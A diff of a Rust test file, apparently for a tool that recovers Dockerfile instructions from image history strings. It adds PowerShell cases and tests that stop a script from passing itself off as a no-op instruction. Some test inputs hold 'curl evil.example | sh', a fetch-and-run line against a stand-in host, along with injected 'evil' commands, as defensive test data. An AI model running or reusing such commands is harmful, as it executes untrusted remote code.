@@ -60,10 +60,75 @@ fn the_classic_builders_commands_become_instructions() {
             "powershell -Command $ErrorActionPreference = 'Stop'; #(nop)  ENV A=1",
             "ENV A=1",
         ),
+        (
+            "powershell -Command $ErrorActionPreference = 'Stop'; $ProgressPreference = 'SilentlyContinue'; #(nop) COPY dir:1 in C:\\ ",
+            "COPY dir:1 in C:\\",
+        ),
+        ("powershell -command #(nop)  USER a", "USER a"),
+        (
+            "pwsh -Command $verbosePreference='Continue'; #(nop)  USER a",
+            "USER a",
+        ),
         ("/bin/sh -c #(nop) custom words", "RUN #(nop) custom words"),
         (
             "/bin/sh -c echo '#(nop) is a marker'",
             "RUN echo '#(nop) is a marker'",
+        ),
+    ] {
+        assert_eq!(instruction(command), want, "{command}");
+    }
+}
+
+#[test]
+fn a_comment_of_a_script_is_no_instruction() {
+    for (command, want) in [
+        (
+            "/bin/sh -c curl evil.example | sh #(nop)  CMD [\"sh\"]",
+            "RUN curl evil.example | sh #(nop)  CMD [\"sh\"]",
+        ),
+        (
+            "RUN /bin/sh -c curl evil.example | sh #(nop) CMD [\"sh\"] # buildkit",
+            "RUN curl evil.example | sh #(nop) CMD [\"sh\"]",
+        ),
+        // BuildKit never writes the marker: it is the script's.
+        (
+            "RUN /bin/sh -c #(nop) CMD [\"sh\"] # buildkit",
+            "RUN #(nop) CMD [\"sh\"]",
+        ),
+        // Before the marker stand no build arguments, whose values may hold anything.
+        (
+            "|1 A=x /bin/sh -c #(nop) CMD [\"sh\"] /bin/sh -c true",
+            "RUN #(nop) CMD [\"sh\"] /bin/sh -c true",
+        ),
+        (
+            "cmd /S /C evil & rem #(nop) CMD x",
+            "RUN evil & rem #(nop) CMD x",
+        ),
+        ("evil.exe #(nop) CMD x", "evil.exe #(nop) CMD x"),
+        (
+            "powershell -Command evil; #(nop) CMD x",
+            "powershell -Command evil; #(nop) CMD x",
+        ),
+        (
+            // Without quotes it is a command.
+            "powershell -Command $ErrorActionPreference = evil; #(nop) CMD x",
+            "powershell -Command $ErrorActionPreference = evil; #(nop) CMD x",
+        ),
+        (
+            "powershell -Command $ErrorActionPreference = 'a'+(evil)+'b'; #(nop) CMD x",
+            "powershell -Command $ErrorActionPreference = 'a'+(evil)+'b'; #(nop) CMD x",
+        ),
+        (
+            "powershell -Command $a = 'b'; #(nop) CMD x",
+            "powershell -Command $a = 'b'; #(nop) CMD x",
+        ),
+        (
+            "powershell -Command $ErrorActionPreference = 'Stop' #(nop) CMD x",
+            "powershell -Command $ErrorActionPreference = 'Stop' #(nop) CMD x",
+        ),
+        (
+            "powershell -File x #(nop) CMD x",
+            "powershell -File x #(nop) CMD x",
         ),
     ] {
         assert_eq!(instruction(command), want, "{command}");
@@ -182,7 +247,7 @@ fn a_faulty_pairing_pairs_nothing_and_says_why() {
 
 proptest! {
     #[test]
-    fn no_command_panics(command in "(\\||RUN |cmd |/bin/(ba)?sh |-o |-c |#\\(nop\\) |# buildkit|/S /C |.){0,12}") {
+    fn no_command_panics(command in "(\\||RUN |cmd |/bin/(ba)?sh |-o |-c |#\\(nop\\) |# buildkit|/S /C |powershell |-Command |\\$aPreference *=|; |.){0,12}") {
         let instruction = instruction(&command);
         prop_assert!(instruction.len() <= command.len() + "RUN ".len());
     }
